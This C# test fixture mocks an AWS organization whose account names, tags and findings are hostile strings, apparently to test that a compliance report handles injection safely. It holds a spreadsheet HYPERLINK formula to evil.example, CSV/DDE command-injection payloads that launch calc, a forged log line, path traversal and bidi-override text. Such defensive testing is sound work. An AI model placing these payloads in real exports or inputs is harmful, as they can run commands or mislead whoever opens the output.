using ComplianceReport.Compliance.Model;
using ComplianceReport.Compliance.Ports;

namespace ComplianceReport.Reliability.Tests.Input;

/// <summary>
/// An organization whose AWS-controlled strings (account names, OU paths, rule names, resource
/// names, annotations, tags) are hostile: formulas, control characters, bidi overrides, path
/// traversal, Jira markup, forged log lines and 100,000-character values.
/// </summary>
public sealed class HostileOrganization : IOrganizationDiscovery, IComplianceReader
{
    public const string Formula = "=HYPERLINK(\"http://evil.example/steal\",\"click\")";
    public const string ForgedLogLine = "\nfail: ComplianceReport.Forged[1]\n      FORGED-LOG-LINE";
    public const string Traversal = "../../../../tmp/evil/..\\..\\x";
    public const string RightToLeft = "\u202Excl.exe\u200F\u2066";
    public const string Markup = "[evil|http://evil.example] {code}x{code} @admin *bold* h1. title";
    public static readonly string Control = "a\u0000b\u0007c\u001b[31md\u0008e\u000bf";
    public static readonly string Long = new('L', 100_000);

    public static readonly string[] Values =
    [
        Formula, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", ForgedLogLine, Traversal, RightToLeft, Markup, Control, Long,
    ];

    public IReadOnlyList<OrganizationAccount> Accounts { get; } = Values
        .Select((value, i) => new OrganizationAccount($"{100000000000 + i:D12}", value, "x@example.com", AccountStatus.Active, $"Root/{value}"))
        .ToList();

    public Task<IReadOnlyList<OrganizationAccount>> DiscoverAsync(CancellationToken cancellationToken) => Task.FromResult(Accounts);

    public Task<RegionSnapshot> ReadRegionAsync(string accountId, string region, CancellationToken cancellationToken)
    {
        var index = Accounts.ToList().FindIndex(a => a.AccountId == accountId);
        var value = Values[index];
        var findings = Values.Select((v, i) => new ResourceEvaluation(
                $"rule-{i}",
                "AWS::EC2::Instance",
                $"i-{index:D2}{i:D2}",
                ComplianceType.NonCompliant,
                v,
                DateTimeOffset.Parse("2026-11-20T10:00:00Z", System.Globalization.CultureInfo.InvariantCulture),
                value,
                new Dictionary<string, string> { [v.Length > 128 ? "long" : v] = v, ["Name"] = value }))
            .ToList();
        var rules = findings.Select(f => new RuleCompliance(f.RuleName, ComplianceType.NonCompliant, 1)).ToList();
        return Task.FromResult(new RegionSnapshot(accountId, region, RegionScanStatus.Scanned, null, rules, findings, DateTimeOffset.UtcNow));
    }
}
